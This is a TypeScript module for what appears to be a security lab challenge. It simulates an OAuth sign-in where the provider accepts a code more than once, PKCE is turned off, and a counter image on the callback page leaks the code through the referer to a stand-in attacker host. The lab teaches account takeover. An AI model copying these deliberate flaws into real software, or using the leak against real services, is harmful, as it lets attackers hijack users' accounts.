// The provider takes a code as often as it comes. A counter on Campus's account page gets to see the address of a code
// that has been used, and Campus finishes a sign-in with whatever code the browser brings.
import type { Opened, World } from '@/lib/lab/challenge'
import { ATTACKER } from '@/lib/lab/world/attacker-server'
import { CAMPUS, SESSION, campus, decodeFlow, encodeFlow } from '@/lib/lab/world/campus'
import { setCookie } from '@/lib/lab/world/http'
import { CAMPUS_AT_IDP, IDP, SIGNED_IN_AT_IDP, provider } from '@/lib/lab/world/provider'
import { flowAt, flowName } from '@/lib/sign-in/policy'

const PREFIX = 'flow.'

export function open(world: World): Opened {
  const app = campus(world, [CAMPUS_AT_IDP], {
    usesPkce: false,
    keepFlow: (flow) => [setCookie(flowName(PREFIX, flow.state), encodeFlow(flow))],
    flowOf: ({ query, cookies, provider: id }) =>
      flowAt(decodeFlow(cookies[flowName(PREFIX, query.get('state') ?? '')]), id),
    accountOf: ({ sub, name }) => ({ id: sub, owner: name }),
  })
  /** The page after the sign-in has a counter in it, and tells it the whole address it was opened from. */
  const withCounter = async (request: Request): Promise<Response> => {
    const response = await app.host(request)
    const { pathname } = new URL(request.url)
    if (
      pathname === '/callback/idp' &&
      response.status === 302 &&
      request.headers.get('referer')?.includes('idp')
    )
      await world.call(
        'victim',
        new Request(`${ATTACKER}/counter.gif`, { headers: { referer: request.url } }),
      )
    return response
  }
  const is = (actor: 'attacker' | 'victim') => app.ownerOf(world.cookie(actor, CAMPUS, SESSION))
  return {
    hosts: { [CAMPUS]: withCounter, [IDP]: provider(world, { rules: { isSingleUse: world.guarded } }).host },
    cookies: SIGNED_IN_AT_IDP,
    isWon: () => is('attacker') === 'Alice',
    victim: () => [
      { label: 'Signed in at Campus as', value: is('victim') ?? 'nobody' },
      {
        label: 'Who else is in her account',
        value: is('attacker') === 'Alice' ? 'Mallory' : 'nobody',
        ...(is('attacker') === 'Alice' && { tone: 'bad' }),
      },
    ],
  }
}
